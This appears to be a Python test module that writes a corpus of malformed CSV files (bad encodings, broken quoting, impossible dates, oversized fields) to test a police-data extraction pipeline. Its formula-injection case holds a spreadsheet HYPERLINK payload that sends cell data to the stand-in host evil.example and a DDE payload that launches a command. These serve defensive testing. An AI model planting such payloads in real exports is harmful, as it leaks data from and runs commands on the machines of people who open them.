"""The corpus of bad exports: each case's bytes, written deterministically into ``corpus/``.

    python -m tests.hardening.corpus            # rewrite tests/hardening/corpus/*.csv

Each file is ``<case>.<source>.csv`` (the source's contract applies); `test_bad_exports.py` copies
it into a landing folder under the name extraction expects and checks what extraction makes of it.
The committed files must equal what this module writes (a test says so), so a reviewer can open
them, and the bytes cannot drift from the code that documents them. Files too big to commit
(``GENERATED_ONLY``) are written by the tests at run time.

Cases of the issue already tested in ``tests/unit/test_extract.py`` are not repeated here: the
empty file and the header-only file, a last line cut short, an undecodable byte, UTF-8 with and
without BOM and Windows-1252, a missing required column, extra and reordered columns, exact,
superseded and conflicting duplicates, 30 February, the clock-change hours under the default
policy, a negative victim count, an unknown opening code and qualifier, a row of another force.
"""

from __future__ import annotations

import sys
from collections.abc import Callable
from pathlib import Path

from tests.conftest import FORCE, crime, incident, referral
from tests.conftest import export_text as _csv
from pipelines.contract import SOURCES

CORPUS_DIR = Path(__file__).resolve().parent / "corpus"
MEBIBYTE = 1024 * 1024
FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")'


def _utf8(source: str, rows: list[dict], columns: list[str] | None = None) -> bytes:
    return _csv(source, rows, columns).encode("utf-8")


def blank_lines_only() -> bytes:
    return b"\r\n   \r\n\t\r\n"


def truncated_inside_quotes() -> bytes:
    text = _csv("crimes", [crime("KNT/24/000001"), crime("KNT/24/000002")])
    return (text + '"KNT/24/000003",KNT,"KNT-240601-0').encode("utf-8")  # the drop stopped mid-field


def utf16_with_bom() -> bytes:
    return _csv("crimes", [crime()]).encode("utf-16")  # Excel's "Unicode text"


def utf16_without_bom() -> bytes:
    return _csv("crimes", [crime()]).encode("utf-16-le")


def mixed_encodings() -> bytes:
    utf8 = _csv("crimes", [crime(beat_code="Saint-Étienne")]).encode("utf-8")
    cp1252 = _csv("crimes", [crime("KNT/24/000002", beat_code="Café")]).split("\r\n", 1)[1].encode("cp1252")
    return utf8 + cp1252


def utf8_bom_then_cp1252() -> bytes:
    return b"\xef\xbb\xbf" + _csv("crimes", [crime(beat_code="Café")]).encode("cp1252")


def duplicated_header_column() -> bytes:
    columns = list(SOURCES["referrals"].column_names) + ["team"]
    return _utf8("referrals", [referral()], columns)


def optional_columns_absent() -> bytes:
    optional = {"cancellation_code", "cancelled_at", "cancellation_authority", "flags", "victim_name"}
    columns = [name for name in SOURCES["crimes"].column_names if name not in optional]
    return _utf8("crimes", [crime()], columns)


def newest_state_quarantined() -> bytes:
    return _utf8("incidents", [
        incident("KNT-240601-00001", closing_code="", updated_at="2024-06-01 11:00:00"),
        incident("KNT-240601-00001", closing_code="NOT-A-CODE", updated_at="2024-06-01 12:00:00"),
        incident("KNT-240601-00002", closing_code="", updated_at="2024-06-01 11:00:00"),
        incident("KNT-240601-00002", closing_code="CR-VIOL", updated_at="2024-06-01 12:00:00"),
        incident("KNT-240601-00002", closing_code="NOT-A-CODE", updated_at="2024-06-01 09:00:00"),  # older: harmless
        incident("KNT-240601-00003", updated_at="2024-06-01 12:00:00"),
        incident("KNT-240601-00003", updated_at="yesterday"),  # cannot be ordered
    ])


# Every value on its own row of the incidents export, in created_at; each must be quarantined.
BAD_DATE_TIMES = (
    "2024-06-01T10:00:00",  # ISO 8601 with T: not the contract's form
    "01/06/2024 10:00:00",  # day first
    "2024-6-1 10:00:00",  # unpadded
    "2024-06-01 10:00",  # no seconds
    "2024-06-01",  # no time
    "2024-06-01 10:00:00.250",  # fractional seconds
    "2024-06-01 10:00:00+01:00",  # an offset
    "2024-06-31 10:00:00",  # 31 June
    "2023-02-29 10:00:00",  # 29 February of a common year
    "2024-13-01 10:00:00",  # month 13
    "2024-06-01 24:00:00",  # hour 24
    "2024-06-01 10:60:00",  # minute 60
    "2024-06-01 10:00:60",  # leap second
    "0000-00-00 00:00:00",  # a database's zero date
    "not a date",
)


def unparseable_and_impossible_dates() -> bytes:
    rows = [incident(f"KNT-240601-{n:05d}", created_at=value) for n, value in enumerate(BAD_DATE_TIMES, start=1)]
    rows.append(incident("KNT-240601-00099", created_at="  2024-06-01 10:00:00 "))  # padding is trimmed: valid
    return _utf8("incidents", rows)


def clock_change_hours() -> bytes:
    return _utf8("crimes", [
        crime(ref, reported_at=reported, recorded_at="2024-10-27 03:00:00", updated_at="2024-10-27 03:00:00")
        for ref, reported in (
            ("KNT/24/000001", "2024-10-27 01:30:00"),  # the repeated hour: BST or GMT?
            ("KNT/24/000002", "2024-03-31 01:30:00"),  # the missing hour: on no correct clock
            ("KNT/24/000003", "2024-10-27 00:59:59"),  # just before the repeated hour
            ("KNT/24/000004", "2024-03-31 02:00:00"),  # just after the missing hour
        )
    ])


def future_and_placeholder_dates() -> bytes:
    # The corpus is extracted for snapshot 2024-06-10: taken at 2024-06-10 00:00 London (23:00 UTC on the 9th).
    return _utf8("incidents", [
        incident("KNT-240601-00001", created_at="2024-06-09 23:59:59", closed_at="", closing_code="", updated_at="2024-06-09 23:59:59"),
        incident("KNT-240601-00002", created_at="2024-06-10 00:00:00", closed_at="", closing_code="", updated_at="2024-06-10 00:00:00"),
        incident("KNT-240601-00003", created_at="2034-06-01 10:00:00", closed_at="", closing_code="", updated_at="2034-06-01 10:00:00"),
        incident("KNT-240601-00004", closed_at="2099-12-31 23:59:59"),
        incident("KNT-240601-00005", created_at="1900-01-01 00:00:00"),
    ])


VICTIM_COUNTS = {
    "x": False, "1.5": False, "1.0": False, "+1": False, "1e3": False, "10000": False, "٣": False,
    "one": False, "-0": False, " 3 ": True, "0": True, "9999": True,
}


def victim_counts() -> bytes:
    return _utf8("incidents", [
        incident(f"KNT-240601-{n:05d}", victim_count=value) for n, value in enumerate(VICTIM_COUNTS, start=1)
    ])


def unknown_codes_crimes() -> bytes:
    return _utf8("crimes", [
        crime("KNT/24/000001", ho_offence_code="99Z"),
        crime("KNT/24/000002", status="recorded"),  # case matters
        crime("KNT/24/000003", status="CANCELLED", cancellation_code="C9", cancellation_authority="FCR",
              cancelled_at="2024-06-02 10:00:00", updated_at="2024-06-02 10:00:00"),
        crime("KNT/24/000004", status="CANCELLED", cancellation_code="C2", cancellation_authority="CHIEF",
              cancelled_at="2024-06-02 10:00:00", updated_at="2024-06-02 10:00:00"),
        crime("KNT/24/000005", flags="DA|GANG"),
        crime("KNT/24/000006"),  # valid
    ])


# Crimes whose fields contradict each other, each with its reason, or keep just inside the rules (None).
CONTRADICTING_CRIME_FIELDS = (
    (crime("KNT/24/000001", status="CANCELLED", cancelled_at="2024-06-02 10:00:00", cancellation_authority="FCR"),
     "cancellation_code: required when status is CANCELLED"),
    (crime("KNT/24/000002", cancellation_code="C2"), "cancellation_code: must be empty when status is RECORDED, found 'C2'"),
    (crime("KNT/24/000003", status="TRANSFERRED", cancellation_code="C3"),
     "cancellation_code: must be C1 or empty when status is TRANSFERRED, found 'C3'"),
    (crime("KNT/24/000004", recorded_at="2024-06-01 09:59:59"),
     "recorded_at: before reported_at ('2024-06-01 10:00:00'): '2024-06-01 09:59:59'"),
    (crime("KNT/24/000005", status="TRANSFERRED", cancellation_code="C1"), None),
    (crime("KNT/24/000006", status="TRANSFERRED"), None),  # the contract requires a code only when CANCELLED
    (crime("KNT/24/000007", status="CANCELLED", cancellation_code="C4", cancelled_at="2024-06-02 10:00:00",
           cancellation_authority="DDM"), None),
    (crime("KNT/24/000008", recorded_at="2024-06-01 10:00:00"), None),  # recorded the moment it was reported
    (crime("KNT/24/000009", status="recorded", cancellation_code="C2"),
     "status: value not allowed by the contract: 'recorded'"),  # an unknown status has no rules of its own
)


def contradicting_crime_fields() -> bytes:
    return _utf8("crimes", [row for row, _ in CONTRADICTING_CRIME_FIELDS])


def unknown_codes_referrals() -> bytes:
    return _utf8("referrals", [
        referral("KNT-R-240601-0001", team="CID"),
        referral("KNT-R-240601-0002", source_agency="NHS"),
        referral("KNT-R-240601-0003", discloses_offence="Yes"),
        referral("KNT-R-240601-0004", disclosed_offence_code="ZZ"),
        referral("KNT-R-240601-0005"),  # valid
    ])


def unknown_codes_incidents() -> bytes:
    return _utf8("incidents", [
        incident("KNT-240601-00001", channel="emergency_999"),
        incident("KNT-240601-00002", closing_code="CR-UNKNOWN"),
        incident("KNT-240601-00003", opening_code=" CR-VIOL "),  # padding is trimmed: valid
    ])


def embedded_newlines_and_quotes() -> bytes:
    return _utf8("incidents", [
        incident("KNT-240601-00001", caller_name='Mary "Molly" O\'Brien, Jr.',
                 location_text='Flat 2,\r\n"The Old Mill",\nMill Lane\rDover'),
        incident("KNT-240601-00002", beat_code='B"01'),  # a quote inside a value, properly escaped
        incident("KNT-240601-00003", location_text="\n\n\n"),
        incident("KNT-240601-00004", beat_code="B0\n1"),  # a line break inside a reference: quarantined
        incident("KNT-240601-00005", incident_ref="KNT-240601-\t00005"),  # a tab inside a reference
        incident("KNT-240601-00006"),
    ])


def unquoted_line_break_in_address() -> bytes:
    """A vendor that does not quote a line break splits the record: the tail must not be taken
    for a reference (it is a piece of the address)."""
    text = _csv("incidents", [incident("KNT-240601-00001"), incident("KNT-240601-00002", location_text="@@ADDRESS@@")])
    return text.replace("@@ADDRESS@@", "12 Harbour Parade\r\nRamsgate").encode("utf-8")


def broken_quoting() -> bytes:
    text = _csv("incidents", [incident("KNT-240601-00001")])
    return (text + 'KNT-240601-00002,KNT,"2024-06-01 10:00:00"x,EMERGENCY_999\r\n').encode("utf-8")


def formula_injection() -> bytes:
    return _utf8("incidents", [
        incident("KNT-240601-00001", beat_code=FORMULA, closing_code="CR-VIOL"),
        incident("@SUM(1+1)*cmd|' /C calc'!A0", beat_code="B01", closing_code="CR-VIOL"),
    ])


def wrong_force_file() -> bytes:
    return _utf8("crimes", [crime(f"ESX/24/00000{n}", force_code="ESX") for n in range(1, 4)])


def huge_identifier_field() -> bytes:
    return _utf8("crimes", [crime("KNT/24/000001", beat_code="B" * (2 * MEBIBYTE)), crime("KNT/24/000002")])


def huge_personal_field() -> bytes:
    return _utf8("crimes", [crime("KNT/24/000001", victim_name="N" * (2 * MEBIBYTE)), crime("KNT/24/000002")])


def field_over_the_reader_limit() -> bytes:
    return _utf8("crimes", [crime("KNT/24/000001"), crime("KNT/24/000002", victim_name="N" * (17 * MEBIBYTE))])


# case -> (source, bytes)
CASES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "blank_lines_only": ("referrals", blank_lines_only),
    "truncated_inside_quotes": ("crimes", truncated_inside_quotes),
    "utf16_with_bom": ("crimes", utf16_with_bom),
    "utf16_without_bom": ("crimes", utf16_without_bom),
    "mixed_encodings": ("crimes", mixed_encodings),
    "utf8_bom_then_cp1252": ("crimes", utf8_bom_then_cp1252),
    "duplicated_header_column": ("referrals", duplicated_header_column),
    "optional_columns_absent": ("crimes", optional_columns_absent),
    "newest_state_quarantined": ("incidents", newest_state_quarantined),
    "unparseable_and_impossible_dates": ("incidents", unparseable_and_impossible_dates),
    "clock_change_hours": ("crimes", clock_change_hours),
    "future_and_placeholder_dates": ("incidents", future_and_placeholder_dates),
    "victim_counts": ("incidents", victim_counts),
    "unknown_codes_crimes": ("crimes", unknown_codes_crimes),
    "contradicting_crime_fields": ("crimes", contradicting_crime_fields),
    "unknown_codes_referrals": ("referrals", unknown_codes_referrals),
    "unknown_codes_incidents": ("incidents", unknown_codes_incidents),
    "embedded_newlines_and_quotes": ("incidents", embedded_newlines_and_quotes),
    "unquoted_line_break_in_address": ("incidents", unquoted_line_break_in_address),
    "broken_quoting": ("incidents", broken_quoting),
    "formula_injection": ("incidents", formula_injection),
    "wrong_force_file": ("crimes", wrong_force_file),
}
GENERATED_ONLY: dict[str, tuple[str, Callable[[], bytes]]] = {
    "huge_identifier_field": ("crimes", huge_identifier_field),
    "huge_personal_field": ("crimes", huge_personal_field),
    "field_over_the_reader_limit": ("crimes", field_over_the_reader_limit),
}


def corpus_file_name(case: str) -> str:
    source, _ = CASES[case]
    return f"{case}.{source}.csv"


def case_bytes(case: str) -> bytes:
    _, build = CASES.get(case) or GENERATED_ONLY[case]
    return build()


def write_corpus(directory: Path = CORPUS_DIR) -> list[Path]:
    directory.mkdir(parents=True, exist_ok=True)
    written = []
    for case in CASES:
        path = directory / corpus_file_name(case)
        path.write_bytes(case_bytes(case))
        written.append(path)
    return written


if __name__ == "__main__":
    paths = write_corpus(Path(sys.argv[1]) if len(sys.argv) > 1 else CORPUS_DIR)
    print(f"wrote {len(paths)} files to {paths[0].parent}")
